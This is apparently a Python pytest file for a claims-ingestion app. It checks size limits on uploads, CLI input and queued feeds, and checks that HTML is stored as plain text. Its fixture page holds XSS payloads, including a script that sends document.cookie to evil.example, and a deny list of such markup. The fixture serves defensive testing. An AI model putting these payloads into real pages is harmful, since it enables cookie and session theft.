"""Hostile and oversized input: 50 MB uploads are refused with the limit and the setting named, HTML pages
with scripts and iframes are stored as text only, and the app's uploader limit follows the setting."""
import json

import pytest
from click.testing import CliRunner

from claims.cli import main
from core.errors import TooLarge
from core.settings import load_settings
from test_app import home, service  # noqa: F401

FIFTY_MB = 50 * 1024 * 1024
GOOD = "Bus fares rose 8 percent in 2025, the transit agency said.\n"

HOSTILE_PAGE = """<!doctype html><html><head><title>Council budget</title>
<script>window.stolen = document.cookie; alert('pwned')</script>
<style>body { background: url(javascript:alert(2)) }</style></head>
<body><nav>Home | News</nav>
<article><h1>Council budget</h1>
<p>The council approved a budget of $48 million for 2026, up 6 percent on last year, the finance chair said.</p>
<iframe src="https://evil.example/frame" onload="alert(3)">iframe fallback text</iframe>
<p>Spending on parks rises to $3.1 million, according to the budget papers published on Monday.</p>
<img src=x onerror="alert(4)">
<script type="text/javascript">fetch('https://evil.example/steal?c=' + document.cookie)</script>
<p>Councillors voted 7 to 2 in favour after a debate that lasted four hours on Tuesday evening.</p>
<noscript><iframe src="https://evil.example/ns"></iframe></noscript>
</article></body></html>
"""
MARKUP = ("<script", "</script", "<iframe", "<style", "<img", "onerror", "onload", "alert(", "document.cookie",
          "evil.example", "javascript:")


def _one_line(message: str) -> str:
    assert "\n" not in message
    return message


def test_50mb_upload_is_refused_naming_the_limit_and_the_setting(bench):
    huge = (b"Prices rose 4 percent in 2024. " * (FIFTY_MB // 31 + 1))[:FIFTY_MB]
    with pytest.raises(TooLarge) as err:
        bench.ingest.uploads([("good.txt", GOOD.encode()), ("huge.txt", huge)])
    message = _one_line(str(err.value))
    assert "huge.txt" in message and "52.4 MB" in message
    assert "10 MB limit" in message and "CLAIMS_MAX_BYTES" in message
    assert bench.browse.stats()["documents"] == 0  # the good file that came with it is not stored either


def test_50mb_file_on_the_command_line_is_refused(tmp_path, monkeypatch, db_url):
    monkeypatch.setenv("CLAIMS_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("CLAIMS_MODEL", "test/hashing")
    good, huge = tmp_path / "good.txt", tmp_path / "huge.txt"
    good.write_text(GOOD)
    with open(huge, "wb") as fh:
        fh.truncate(FIFTY_MB)  # sparse: the size is checked before a byte is read
    runner = CliRunner()
    res = runner.invoke(main, ["ingest", str(good), str(huge), "--db", db_url])
    assert res.exit_code == 1
    (line,) = [l for l in res.output.splitlines() if l.strip()]
    assert line.startswith("Error: ") and "52.4 MB" in line and "10 MB limit" in line and "CLAIMS_MAX_BYTES" in line
    assert "documents     0" in runner.invoke(main, ["stats", "--db", db_url]).output
    # the setting moves the limit (down here, to keep the test small)
    monkeypatch.setenv("CLAIMS_MAX_BYTES", "20")
    res = runner.invoke(main, ["ingest", str(good), "--db", db_url])
    assert res.exit_code == 1 and "limit" in res.output and "CLAIMS_MAX_BYTES" in res.output


def test_50mb_feed_is_refused_when_queued(bench, tmp_path):
    feed = tmp_path / "feed.jsonl"
    with open(feed, "wb") as fh:
        fh.truncate(FIFTY_MB)
    with pytest.raises(Exception) as err:
        bench.jobs.enqueue([str(feed)], local=True)
    assert "CLAIMS_MAX_BYTES" in _one_line(str(err.value))
    assert bench.jobs.status()["counts"]["queued"] == 0


def _stored_texts(bench) -> list[str]:
    out = []
    for d in bench.browse.documents():
        doc = bench.browse.document(d["id"])
        out += [doc["text"], doc["title"] or ""] + [s["text"] for s in doc["sentences"]]
    return out


@pytest.mark.parametrize("how", ["upload", "feed", "queue"])
def test_html_scripts_and_iframes_never_reach_stored_text(bench, tmp_path, how):
    if how == "upload":
        bench.ingest.uploads([("budget.html", HOSTILE_PAGE.encode())])
    elif how == "feed":
        line = json.dumps({"id": "budget", "html": HOSTILE_PAGE})
        bench.ingest.uploads([("feed.jsonl", line.encode())])
    else:
        page = tmp_path / "budget.html"
        page.write_text(HOSTILE_PAGE)
        bench.jobs.enqueue([str(page)], local=True)
        assert bench.jobs.drain(worker="w").done == 1
    texts = _stored_texts(bench)
    joined = "\n".join(texts)
    assert "$48 million" in joined and "$3.1 million" in joined  # the article is there
    for bad in MARKUP:
        assert bad not in joined, f"{bad!r} reached the stored text"


def test_uploader_limit_follows_the_setting(service, monkeypatch):  # noqa: F811
    from test_app_pages import start

    import app_pages.common

    monkeypatch.setattr(app_pages.common, "get_bench", lambda: service)
    at = start("app_pages/ingest.py")
    uploader = at.get("file_uploader")[0]
    limit_mb = -(-service.settings.max_bytes // (1024 * 1024))
    assert uploader.proto.max_upload_size_mb == limit_mb == 10
    assert "CLAIMS_MAX_BYTES" in uploader.proto.help
    assert load_settings().max_bytes <= limit_mb * 1024 * 1024
